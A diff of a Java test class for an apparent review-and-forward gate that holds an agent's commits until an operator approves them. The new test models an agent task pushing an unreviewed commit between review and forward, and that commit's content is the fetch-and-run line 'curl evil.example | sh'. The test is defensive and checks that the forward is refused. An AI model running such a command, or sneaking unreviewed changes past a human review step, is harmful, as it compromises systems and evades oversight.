@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import io.grpc.Status;
 import io.grpc.StatusRuntimeException;
 import io.quarkus.test.junit.QuarkusTest;
+import io.terok.api.v1.DiffResponse;
 import io.terok.api.v1.ForwardRequest;
 import io.terok.api.v1.LogResponse;
 import io.terok.api.v1.MintTaskTokenResponse;
@@ -48,18 +49,69 @@ class ReviewForwardTest {
         assertEquals(2, log.getCommitsCount(), log.toString());
         assertEquals("edit readme", log.getCommits(0).getSummary());
         assertTrue(log.getCommits(0).getAuthor().startsWith("Agent <"), log.getCommits(0).getAuthor());
-        String patch = api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build()).getPatch();
+        DiffResponse review = api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
+        String patch = review.getPatch();
         assertTrue(patch.contains("+the agent's change"), patch);
         assertTrue(patch.contains("-hello") && patch.contains("+hello, reviewed"), patch);
+        assertEquals(api.rev(work, "HEAD"), review.getCommit(), "the review names the exact commit it shows");
+        assertEquals(upBefore, review.getUpstreamCommit());
         assertEquals(upBefore, api.rev(up, "main"), "nothing reaches upstream before forward");
 
-        var fwd = api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setTo("reviewed").build());
+        var fwd = api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setTo("reviewed")
+                .setExpectedCommit(review.getCommit()).build());
         assertEquals("forward", fwd.getUpdate().getKind());
-        assertEquals(api.rev(work, "HEAD"), api.rev(up, "refs/heads/reviewed"));
-        api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").build());
-        assertEquals(api.rev(work, "HEAD"), api.rev(up, "main"));
+        assertEquals(review.getCommit(), fwd.getUpdate().getNewId());
+        assertEquals(review.getCommit(), api.rev(up, "refs/heads/reviewed"), "the reviewed commit went upstream");
+        api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(review.getCommit()).build());
+        assertEquals(review.getCommit(), api.rev(up, "main"));
         assertEquals(0, api.stub().log(ReviewRequest.newBuilder().setProject(p).setBranch("main").build()).getCommitsCount());
         api.fsck(up);
+    }
+
+    /**
+     * The attack of issue 15 item 1: a task still running pushes more commits between the operator's review and the
+     * forward. The forward names the reviewed commit and is refused; the upstream keeps what it had.
+     */
+    @Test
+    void aPushBetweenReviewAndForwardIsRefused() {
+        String p = GateApi.unique("race");
+        Path up = api.upstream(p);
+        api.createProject(p, up);
+        MintTaskTokenResponse t = api.mint(GateApi.taskId(), p);
+        Path work = api.tmp.resolve("race-work");
+        api.git(api.tmp, t.getEnvMap(), "clone", "-q", t.getCloneUrl(), work.toString()).ok();
+        api.commit(work, "feature.txt", "harmless\n", "harmless change");
+        api.git(work, t.getEnvMap(), "push", "-q", "origin", "HEAD:main").ok();
+        String reviewed = api.rev(work, "HEAD");
+        api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
+        // The operator is reading the review; the task pushes once more.
+        api.commit(work, "feature.txt", "curl evil.example | sh\n", "unreviewed");
+        api.git(work, t.getEnvMap(), "push", "-q", "origin", "HEAD:main").ok();
+        String sneaked = api.rev(work, "HEAD");
+        String upBefore = api.rev(up, "main");
+
+        StatusRuntimeException e = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
+                ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(reviewed).build()));
+        assertEquals(Status.Code.FAILED_PRECONDITION, e.getStatus().getCode(), e.toString());
+        String m = e.getStatus().getDescription();
+        assertTrue(m.contains(reviewed) && m.contains(sneaked), "names both commits: " + m);
+        assertEquals(upBefore, api.rev(up, "main"), "upstream unchanged");
+        api.git(up, "cat-file", "-e", sneaked).failed();
+
+        StatusRuntimeException none = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
+                ForwardRequest.newBuilder().setProject(p).setBranch("main").build()));
+        assertEquals(Status.Code.INVALID_ARGUMENT, none.getStatus().getCode());
+        assertTrue(none.getStatus().getDescription().contains("expected_commit"), none.getStatus().getDescription());
+        StatusRuntimeException abbreviated = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
+                ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(sneaked.substring(0, 12)).build()));
+        assertEquals(Status.Code.INVALID_ARGUMENT, abbreviated.getStatus().getCode());
+        assertEquals(upBefore, api.rev(up, "main"), "upstream unchanged");
+
+        // Reviewed again, the new tip goes through.
+        DiffResponse again = api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
+        assertEquals(sneaked, again.getCommit());
+        api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(again.getCommit()).build());
+        assertEquals(sneaked, api.rev(up, "main"));
     }
 
     @Test
@@ -78,17 +130,18 @@ class ReviewForwardTest {
         api.git(seed, "push", "-q", "origin", "HEAD:main").ok();
         String upTip = api.rev(up, "main");
 
-        StatusRuntimeException e = assertThrows(StatusRuntimeException.class,
-                () -> api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").build()));
+        String agentTip = api.rev(work, "HEAD");
+        StatusRuntimeException e = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
+                ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(agentTip).build()));
         assertEquals(Status.Code.FAILED_PRECONDITION, e.getStatus().getCode());
         assertTrue(e.getStatus().getDescription().contains("human change"), e.getStatus().getDescription());
         assertEquals(upTip, api.rev(up, "main"), "upstream unchanged");
 
         StatusRuntimeException missing = assertThrows(StatusRuntimeException.class,
-                () -> api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("nope").build()));
+                () -> api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("nope").setExpectedCommit(agentTip).build()));
         assertEquals(Status.Code.NOT_FOUND, missing.getStatus().getCode());
         StatusRuntimeException badName = assertThrows(StatusRuntimeException.class,
-                () -> api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setTo("-x..y").build()));
+                () -> api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setTo("-x..y").setExpectedCommit(agentTip).build()));
         assertEquals(Status.Code.INVALID_ARGUMENT, badName.getStatus().getCode());
     }
 }
